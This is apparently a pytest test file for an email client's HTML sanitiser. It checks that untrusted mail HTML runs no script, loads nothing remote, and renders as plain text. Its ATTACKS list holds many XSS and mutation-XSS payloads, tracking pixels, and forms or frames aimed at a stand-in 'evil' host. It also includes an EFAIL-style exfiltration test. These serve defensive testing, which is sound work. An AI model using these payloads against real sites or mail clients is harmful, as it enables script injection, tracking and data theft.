"""Strangers' HTML: what is let through, that it loads nothing, and what a reader sees of it."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailgate.mail.html import read_html, sanitise, to_text
from mailgate.mail.parse import parse_mail

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style>@import 'http://evil/x.css'; body{background:url(http://evil/y)}</style>",
    '<div style="background:url(http://evil/x)">x</div>',
    '<div style="position:fixed;top:0">x</div>',
    "<link rel=stylesheet href=http://evil/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil/'>",
    "<base href=http://evil/>",
    "<iframe src=http://evil/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil/></object>",
    "<embed src=http://evil/>",
    "<form action=http://evil/><input name=a><button>go</button></form>",
    "<img srcset='http://evil/x 2x'>",
    "<img src='http://evil/pixel.gif' width=1 height=1>",
    "<img src='//evil/pixel.gif'>",
    "<img src='/pixel.gif'>",
    "<a href='//evil/x'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<video src=http://evil/x poster=http://evil/y></video>",
    "<audio src=http://evil/x></audio>",
    "<table background=http://evil/x><tr><td background=http://evil/y>x</table>",
    "<body onload=alert(1) background=http://evil/x>x</body>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->x",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><img src=x onerror=alert(1)></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<p id="x" class="y" name="z" data-src="http://evil/x">x</p>',
    "<image src=http://evil/x>",
    '<img alt="<img src=http://evil/x>" src="cid:a@b">',
    "<a href='http://ok/' target=_blank onclick=x>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" &#x6A&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://evil/x">x</a>',
    '<a href="http:&#10;//evil/" style="position:fixed;inset:0">x</a>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x>'/></svg>",
    "<svg><image href=http://evil/x></svg>",
    "<p style=\"background:url('http://evil/x')\">x</p>",
    '<p style="background-image:\\75rl(http://evil/x)">x</p>',
    '<p style="color:red;background:u/**/rl(http://evil/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(#x);-moz-binding:url(http://evil/x)">x</p>',
    "<p style='font-family:\"x;} * {background:url(http://evil)}\"'>x</p>",
    '<p style="margin-left:-9999px;position:absolute;z-index:9">x</p>',
    '<p style="color:var(--x);content:attr(href);list-style:url(http://evil/x)">x</p>',
    '<p style="@import url(http://evil/x)">x</p>',
    '<p style="cursor:image-set(url(http://evil/x) 1x)">x</p>',
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<frameset onload=alert(1)><frame src=http://evil/></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a ping=http://evil/ href=http://ok/>x</a>",
    "<img lowsrc=http://evil/x dynsrc=http://evil/y src=cid:a>",
    "<img src=cid:a style='content:url(http://evil/x)'>",
    "<picture><source srcset=http://evil/x><img src=http://evil/y></picture>",
    "<bgsound src=http://evil/x>",
    "<applet code=x archive=http://evil/x></applet>",
    "<layer src=http://evil/x></layer>",
    "<?xml version=1.0?><?import namespace=x implementation=http://evil/x>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href=http://ok/ title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<p title='</p><img src=x onerror=alert(1)>'>x</p>",
    "<table><td><select><table></select><img src=x onerror=alert(1)>",
    "<img data-src=javascript:alert(1) src=data:text/html,x>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=http://evil/x>x</q>",
    "\u2028<script\x0c>alert(1)</script\x0b>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    '<a href="https://ok/" rel=opener target=_top>x</a>',
]
ALLOWED_NAMES = (
    "a abbr address article aside b bdi bdo big blockquote br caption center cite code col "
    "colgroup dd del details dfn dir div dl dt em fieldset figcaption figure font footer h1 h2 h3 "
    "h4 h5 h6 header hgroup hr i img ins kbd legend li main mark menu nav ol p pre q s samp search "
    "section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u "
    "ul var wbr"
)
ALLOWED = frozenset(ALLOWED_NAMES.split())
ATTRIBUTE_NAMES = (
    "dir lang title align style href name rel src alt width height data-src border cellpadding "
    "cellspacing bgcolor colspan rowspan valign span color face size start type value"
)
ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())
STYLE = re.compile(r"(?:[a-z-]+:(?:[\w#.%, /'-]|(?:rgb|hsl)a?\([\d., %]+\))+;?)+")


class Reader(HTMLParser):
    """Another parser reads what was let through."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED
        for name, value in attrs:
            assert name in ATTRIBUTES
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        """Only what came with the mail is loaded; a link leads to where it says."""
        if name == "src":
            assert value.lower().startswith("cid:")
        if name == "data-src":
            assert tag == "img"
            assert value.lower().startswith(("http://", "https://"))
        if name == "href":
            assert value.lower().startswith(("http:", "https:", "mailto:", "tel:", "cid:"))
        if name == "rel":
            assert value == "noopener noreferrer nofollow"
        if name == "style":
            assert STYLE.fullmatch(value)
            assert not re.search(r"position|url|expression|import|binding|behavior|content", value)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    unknown_decl = handle_pi = handle_comment


def check(cleaned: str) -> None:
    reader = Reader()
    reader.feed(cleaned)
    reader.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_row_66_nothing_runs_and_nothing_is_loaded(attack: str) -> None:
    cleaned = sanitise(f"<p>before</p>{attack}<p>after</p>")
    check(cleaned)
    assert "before" in cleaned
    assert sanitise(cleaned) == cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_row_66_in_a_mail_and_in_its_reply(attack: str) -> None:
    quote = '<div class="gmail_quote"><blockquote>QUOTED</blockquote></div>'
    reading = read_html(f"<p>before</p>{attack}{quote}")
    check(reading.html)
    check(reading.reply_html)
    assert "before" in reading.reply_html


PIECES = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<a href=http://a.example/>",
        "</a>",
        "<table>",
        "<td>",
        "<li>",
        "<ul>",
        "</ul>",
        "<dd>",
        "<pre>",
        "\n",
        "</pre>",
        "<marquee>",
        "<object>",
        "</object>",
        "<svg>",
        "<style>",
        "</style>",
        "<math>",
        "<mtext>",
        "<template>",
        "<select>",
        "<form>",
        "<img src=http://a.example/x>",
        "<img src=cid:x>",
        "<p style='color:red;x:url(y)'>",
        "&amp;",
        "<div class=gmail_quote>",
        "<blockquote type=cite>",
        "</blockquote>",
        "</div>",
        "<h1>",
        "x",
        "On 1.1.2026 12:00, a <a@b.kr> wrote:",
        "<!--",
        "-->",
        "&lt;img src=x>",
        '"',
        "<nobr>",
        "<br>",
        "<div style='display:none'>",
        "<center>",
        "</center>",
        "<font size=1>",
        "</table>",
        "&#1;",
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join))
def test_sanitised_html_is_safe_and_stays_as_it_is(html: str) -> None:
    cleaned = sanitise(html)
    check(cleaned)
    assert sanitise(cleaned) == cleaned


@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_the_html_is_its_reply_is_safe(html: str) -> None:
    reading = read_html(html)
    check(reading.html)
    check(reading.reply_html)
    for name in ("div", "blockquote", "p", "a", "table"):
        assert reading.reply_html.count(f"<{name}>") + reading.reply_html.count(
            f"<{name} "
        ) == reading.reply_html.count(f"</{name}>")


def test_what_a_mail_is_made_of_stays() -> None:
    html = (
        '<div dir="rtl"><table border="1"><tbody><tr><td colspan="2">안녕 <b>bold</b></td></tr>'
        '</tbody></table><a href="https://a.example/x">link</a></div>'
    )
    cleaned = sanitise(html)
    for piece in (
        '<div dir="rtl">',
        '<td colspan="2">',
        "<b>bold</b>",
        'href="https://a.example/x"',
    ):
        assert piece in cleaned


def test_an_inline_image_stays_and_a_remote_one_waits() -> None:
    cleaned = sanitise('<img src="cid:i1@x"><img src="https://a.example/p.gif">')
    assert '<img src="cid:i1@x">' in cleaned
    assert '<img data-src="https://a.example/p.gif">' in cleaned


@pytest.mark.parametrize("html", ["<p>KEPT" * 45_000, "<b>KEPT</b>" * 30_000])
def test_row_67_what_no_parser_may_see_is_kept_as_text(html: str) -> None:
    cleaned = sanitise(html)
    assert "KEPT" in cleaned
    assert set(re.findall(r"<(\w+)", cleaned)) <= {"p", "br"}


def test_harmless_styles_stay_and_others_go() -> None:
    html = (
        '<p style=\'color: #1F497D; font-family:"Malgun Gothic",맑은고딕; margin:0cm 0cm 8pt; '
        "mso-margin-top-alt:auto; position:fixed; background: url(http://a.example/x); "
        "width: 100000px; margin-left:-50px; text-align:center !important'>x</p>"
    )
    assert sanitise(html) == (
        "<p style=\"color:#1F497D;font-family:'Malgun Gothic',맑은고딕;margin:0cm 0cm 8pt;"
        'text-align:center">x</p>'
    )


def mail_with(html: str, content_id: str) -> bytes:
    return (
        "From: a@b.kr\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--x\r\n"
        "Content-Type: image/gif\r\n"
        f"Content-ID: <{content_id}>\r\n\r\nGIF89a\r\n--x--\r\n"
    ).encode()


def test_an_inline_image_that_did_not_come_is_marked() -> None:
    mail = parse_mail(mail_with('<img src="cid:a@x"><img src="cid:b@x">', "a@x"))
    assert mail.html == '<img src="cid:a@x"><img data-src="cid:b@x">'


def test_the_name_of_an_inline_image_may_be_written_as_a_url() -> None:
    """RFC 2392 §2: the Content-ID is percent-encoded in the URL."""
    mail = parse_mail(mail_with('<img src="CID:a%2Bb@x">', "a+b@x"))
    assert mail.html == '<img src="CID:a%2Bb@x">'


def test_two_parts_never_share_a_document() -> None:
    """EFAIL: what one part leaves open must not take in the next."""
    html = (
        "From: a@b.kr\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: "
        'text/html\r\n\r\n<img src="http://evil.example/\r\n--x\r\nContent-Type: text/html\r\n\r\n'
        '<p>SECRET</p>\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    mail = parse_mail(html.encode())
    check(mail.html or "")
    assert "<p>SECRET</p>" in (mail.html or "")
    assert "evil.example" not in (mail.html or "")


def test_text_of_html() -> None:
    html = (
        "<html><head><title>no</title><style>no</style></head><body><p>Hello <b>there</b>,</p>"
        "<div>one<br>two</div><ul><li>a</li><li>b</li></ul><blockquote>quoted<br>lines"
        '</blockquote><img src="cid:x" alt="logo"><pre>  kept\n   as is</pre></body></html>'
    )
    assert to_text(html) == (
        "Hello there,\n\none\ntwo\n\n- a\n- b\n\n> quoted\n> lines\n\n[logo]\n\n  kept\n   as is"
    )


TEXTS = {
    "words in several elements": ("<p>a<b>b</b>c <i>d</i>\n  e</p>", "abc d e"),
    "blocks": ("<div>one<div>two</div>three</div>four", "one\ntwo\nthree\nfour"),
    "line ends": ("one<br>two<br><br><br>three", "one\ntwo\n\nthree"),
    "empty lines of gmail": ("<div>a</div><div><br></div><div>b</div>", "a\n\nb"),
    "an empty line of gmx": ("<div>a</div><div>&nbsp;</div><div>b</div>", "a\n\nb"),
    "an empty line in a font": ("<div>a</div><div><font>&nbsp;</font></div><div>b</div>", "a\n\nb"),
    "an empty row": ("<table><tr><td>a<tr><td>&nbsp;<tr><td>b</table>", "a\n\nb"),
    "many empty lines": ("<p>a</p>" + "<div>&nbsp;</div>" * 5 + "<p>b</p>", "a\n\nb"),
    "paragraphs of outlook": ("<p>a</p><p>&nbsp;</p><p>b</p>", "a\n\nb"),
    "numbers": ("<ol><li>a<li>b</ol><ol start=7><li><p>c</p></ol>", "1. a\n2. b\n\n7. c"),
    "lists in lists": ("<ul><li>a<ul><li>b</ul><li>c</ul>", "- a\n  - b\n- c"),
    "a table": (
        "<table><tr><th>품목<th>수량</tr><tr><td> 사과 <td>4</table>",
        "품목\t수량\n사과\t4",
    ),
    "a table for looks": (
        "<table><tr><td><div>one</div></td><td><p>two</p></td></tr></table>",
        "one\n\ntwo",
    ),
    "a link": ('See <a href="https://a.example/x">here</a>.', "See here."),
    "images": ('<img alt="a &amp; b" src="cid:x"><img src="http://a.example/p.gif">', "[a & b]"),
    "quotes in quotes": (
        "<blockquote>a<blockquote>b</blockquote></blockquote>c",
        "> a\n>\n>> b\n\nc",
    ),
    "preformatted": ("<pre>\na  b\n\tc\n\nd</pre>", "a  b\n\tc\n\nd"),
    "a style for blanks": ('<div style="white-space:pre-wrap">a\n  b</div>', "a\n  b"),
    "entities": ("&lt;b&gt; &amp;amp; &quot;&#54620;&nbsp;&nbsp;x", '<b> &amp; "한 x'),
    "preheader": (
        '<div style="display:none;max-height:0">PREVIEW</div><span style="mso-hide:all">X</span>Hi',
        "Hi",
    ),
    "padding of a preheader": ("&#847;&zwnj;&nbsp;&#8203;&shy;<p>Hi</p>", "Hi"),
    "soft hyphens": ("Donau&shy;dampf&#8203;schiff", "Donaudampfschiff"),
    "a joiner in a word": ("می\u200cخواهم", "می\u200cخواهم"),
    "an ideographic space": ("\u3000東京\u3000大阪", "\u3000東京\u3000大阪"),
    "a joined emoji": ("👩\u200d💻", "👩\u200d💻"),
    "a rule": ("a<hr>b", "a\n--------------------\nb"),
    "conditional comments": (
        "<!--[if mso]><p>no</p><![endif]-->yes<![if !mso]>!<![endif]>",
        "yes!",
    ),
    "style and script": ("<style>p{}</style><script>x</script><title>t</title>yes", "yes"),
    "a form": ("<p>a</p><form>b<input value=c></form>", "a\n\nb"),
}


@pytest.mark.parametrize(("html", "text"), TEXTS.values(), ids=TEXTS.keys())
def test_what_a_reader_sees(html: str, text: str) -> None:
    assert to_text(html) == text
